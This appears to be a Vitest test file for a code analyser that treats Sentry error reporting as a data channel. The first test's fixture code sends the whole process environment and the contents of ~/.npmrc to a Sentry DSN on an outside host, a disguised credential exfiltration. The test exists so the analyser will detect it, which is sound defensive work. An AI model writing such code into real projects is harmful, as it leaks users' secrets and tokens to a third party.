import { describe, expect, it } from 'vitest';
import { factsOf, ofKind } from '../../support/code.js';

/** Error-reporting SDKs as channels (src/analysis/code/javascript/sdk-channels.ts). */

describe('JavaScript: Sentry as a channel', () => {
  it('context set after init goes to the DSN host', async () => {
    const r = await factsOf(
      'javascript',
      `import * as Sentry from '@sentry/node';
import { readFileSync } from 'node:fs';
import os from 'node:os';
Sentry.init({ dsn: 'https://k@events.cdn-assets-sync.net/3' });
Sentry.setContext('machine', { env: process.env, npmrc: readFileSync(os.homedir() + '/.npmrc', 'utf8') });
Sentry.captureMessage('started');
`,
    );
    const sends = ofKind(r, 'send');
    expect(sends[0]?.channel).toBe('telemetry');
    expect(sends[0]?.endpoint.host).toBe('events.cdn-assets-sync.net');
    expect(sends[0]?.data.taints).toContain('secret');
  });

  it('an exception capture alone sends no local data', async () => {
    const r = await factsOf(
      'javascript',
      `const Sentry = require('@sentry/node');
Sentry.init({ dsn: process.env.SENTRY_DSN, sendDefaultPii: false });
try { main(); } catch (e) { Sentry.captureException(e); }
`,
    );
    expect(ofKind(r, 'send')).toEqual([]);
  });
});
